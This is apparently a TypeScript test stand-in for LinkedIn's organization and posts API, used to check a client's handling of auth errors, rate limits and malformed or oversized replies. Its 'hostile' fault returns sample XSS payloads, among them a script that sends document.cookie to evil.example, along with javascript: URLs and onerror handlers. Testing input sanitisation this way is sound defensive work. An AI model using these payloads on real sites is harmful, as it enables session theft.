/**
 * A local stand-in for LinkedIn's versioned REST API (Community Management): Organization Lookup
 * (`GET /rest/organizations/{id}`, and the finder `GET /rest/organizations?q=vanityName&vanityName=…`)
 * and the Posts API's finder by author (`GET /rest/posts?author=urn:li:organization:N&q=author&count=…`).
 * It is NOT LinkedIn: it answers from linkedin-pages.json (the shapes LinkedIn documents:
 * organizations with localizedName, vanityName, localizedWebsite, localizedDescription; posts with
 * id, author, commentary in LinkedIn's little text format, content.article, lifecycleState,
 * distribution, publishedAt; Rest.li collections as `{ elements, paging }`).
 *
 * What it checks, as LinkedIn does: `X-Restli-Protocol-Version: 2.0.0` and a `LinkedIn-Version`
 * (400 without them), a Bearer token it was given (401 `INVALID_ACCESS_TOKEN` otherwise, 401
 * `EXPIRED_ACCESS_TOKEN` for one marked expired), posts only for a page the token's member
 * administers (403 otherwise), and a description only for such a member. Faults switch on with
 * `fault` (VendorFault): "unauthorized" answers every token as expired, "rate-limited" 429 with
 * Retry-After. Every request is recorded in `requests`.
 */
import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { StandInServer, bearerToken, sendJson, sendMalformedJson, sendOversizedJson, type RecordedVendorRequest, type VendorFault } from "./stand-in-server.js";

const PAGES = new URL("./linkedin-pages.json", import.meta.url);

interface RecordedOrganization {
  id: number;
  localizedName: string;
  vanityName: string;
  localizedDescription?: string;
  [key: string]: unknown;
}

interface RecordedPost {
  id: string;
  author: string;
  commentary: string;
  [key: string]: unknown;
}

interface Pages {
  organizations: RecordedOrganization[];
  posts: RecordedPost[];
}

export class LinkedInStandIn {
  readonly requests: RecordedVendorRequest[] = [];
  /** Tokens it accepts, each with the organization ids (digits) its member administers. */
  readonly tokens = new Map<string, Set<string>>();
  /** Tokens it answers as expired (401 EXPIRED_ACCESS_TOKEN). */
  readonly expiredTokens = new Set<string>();
  fault: VendorFault | undefined;
  /** Retry-After, in seconds, on a "rate-limited" answer; null sends the 429 without one. */
  retryAfterSeconds: number | null = 30;
  oversizedBytes = 3 * 1024 * 1024;

  private constructor(private readonly server: StandInServer) {}

  static async start(): Promise<LinkedInStandIn> {
    let standIn: LinkedInStandIn | undefined;
    const server = await StandInServer.start((request, _rawBody, response) => standIn!.handle(request, response));
    standIn = new LinkedInStandIn(server);
    return standIn;
  }

  /** The base URL to give the client (LINKEDIN_API_URL): the origin and `/rest`. */
  get baseUrl(): string {
    return `${this.server.origin}/rest`;
  }

  /** The Bearer token of every request received, in order ("" for none). */
  tokensSeen(): string[] {
    return this.requests.map((request) => /^Bearer (\S+)$/.exec(String(request.headers.authorization ?? ""))?.[1] ?? "");
  }

  close(): Promise<void> {
    return this.server.close();
  }

  private handle(request: IncomingMessage, response: ServerResponse): void {
    this.requests.push({ method: request.method ?? "", path: request.url ?? "", headers: request.headers, rawBody: "" });
    const url = new URL(request.url ?? "/", "http://stand-in");
    if (request.method !== "GET") return error(response, 405, "METHOD_NOT_ALLOWED", "Only GET is served here");
    if (request.headers["x-restli-protocol-version"] !== "2.0.0") return error(response, 400, "INVALID_PROTOCOL_VERSION", "X-Restli-Protocol-Version must be 2.0.0");
    if (!/^\d{6}$/.test(String(request.headers["linkedin-version"] ?? ""))) return error(response, 400, "VERSION_MISSING", "A version must be present. Please specify a version by adding the LinkedIn-Version header");

    const token = bearerToken(request);
    if (!token || !this.tokens.has(token)) return error(response, 401, "INVALID_ACCESS_TOKEN", "Invalid access token", 65600);
    if (this.fault === "unauthorized" || this.expiredTokens.has(token)) return error(response, 401, "EXPIRED_ACCESS_TOKEN", "The token used in the request has expired", 65601);
    const administered = this.tokens.get(token)!;

    switch (this.fault) {
      case "hang":
        return this.server.hang(response);
      case "rate-limited":
        return sendJson(response, 429, { status: 429, code: "TOO_MANY_REQUESTS", message: "Resource level throttle APPLICATION DAY limit for calls to this resource is reached." }, this.retryAfterSeconds === null ? {} : { "retry-after": String(this.retryAfterSeconds) });
      case "internal":
        response.writeHead(500, { "content-type": "text/html" });
        return void response.end("<html><body><h1>500 Internal Server Error</h1></body></html>");
      default:
        break;
    }

    const pages = JSON.parse(readFileSync(PAGES, "utf8")) as Pages;
    const shown = (organization: RecordedOrganization): RecordedOrganization => {
      if (administered.has(String(organization.id))) return organization;
      // Non-administrators get the public fields only.
      const { localizedDescription: _hidden, ...rest } = organization;
      return rest as RecordedOrganization;
    };

    const byId = /^\/rest\/organizations\/(\d+)$/.exec(url.pathname);
    if (byId) {
      const organization = pages.organizations.find((candidate) => String(candidate.id) === byId[1]);
      if (!organization) return error(response, 404, "NOT_FOUND", `Organization ${byId[1]} does not exist`);
      return this.answer(response, shown(organization), (padding) => ({ ...shown(organization), localizedDescription: padding }));
    }
    if (url.pathname === "/rest/organizations") {
      if (url.searchParams.get("q") !== "vanityName" || !url.searchParams.get("vanityName")) return error(response, 400, "ILLEGAL_ARGUMENT", "q=vanityName and vanityName are required");
      const wanted = url.searchParams.get("vanityName")!.toLowerCase();
      const elements = this.fault === "empty" ? [] : pages.organizations.filter((organization) => organization.vanityName.toLowerCase() === wanted).map(shown);
      return this.answer(response, collection(elements, 0, 10), (padding) => collection([{ ...elements[0], localizedDescription: padding }], 0, 10));
    }
    if (url.pathname === "/rest/posts") {
      const author = /^urn:li:organization:(\d+)$/.exec(url.searchParams.get("author") ?? "");
      if (url.searchParams.get("q") !== "author" || !author) return error(response, 400, "ILLEGAL_ARGUMENT", "q=author and an author URN are required");
      if (!administered.has(author[1]!)) return error(response, 403, "ACCESS_DENIED", "Not enough permissions to access: partnerApiPostsExternal.FINDER-author", 100);
      const count = Math.min(100, Math.max(1, Number(url.searchParams.get("count") ?? 10) || 10));
      let elements: unknown[] = pages.posts.filter((post) => post.author === `urn:li:organization:${author[1]}`).slice(0, count);
      if (this.fault === "empty") elements = [];
      if (this.fault === "hostile") elements = hostile(pages.posts[0]!);
      return this.answer(response, collection(elements, 0, count), (padding) => collection([{ ...pages.posts[0]!, commentary: padding }], 0, count));
    }
    return error(response, 404, "NOT_FOUND", `No resource at ${url.pathname}`);
  }

  // Private: a 200 answer, or the body-level fault switched on.
  private answer(response: ServerResponse, body: unknown, oversized: (padding: string) => unknown): void {
    if (this.fault === "malformed-json") return sendMalformedJson(response, body);
    if (this.fault === "oversized") return sendOversizedJson(response, this.oversizedBytes, oversized);
    return sendJson(response, 200, body);
  }
}

/** A Rest.li collection, as finders answer. */
function collection(elements: unknown[], start: number, count: number) {
  return { elements, paging: { start, count, links: [], total: elements.length } };
}

/** LinkedIn's error body: `{ status, serviceErrorCode, code, message }`. */
function error(response: ServerResponse, status: number, code: string, message: string, serviceErrorCode?: number): void {
  sendJson(response, status, { status, ...(serviceErrorCode === undefined ? {} : { serviceErrorCode }), code, message });
}

/** Posts whose every shown field is hostile, and posts that cannot be linked or dated. */
function hostile(post: RecordedPost): unknown[] {
  return [
    {
      ...post,
      commentary: "Descale now<script>document.location='https://evil.example/?'+document.cookie</script>\u0000 <b onclick=\"alert(1)\">today</b>",
      content: { article: { source: "javascript:alert(1)", title: "<img src=x onerror=alert(1)>Guide" } },
    },
    { ...post, id: "javascript:alert(1)" },
    { ...post, id: "urn:li:share:7100000000000000099", publishedAt: "yesterday", createdAt: -5 },
    "not a post",
  ];
}
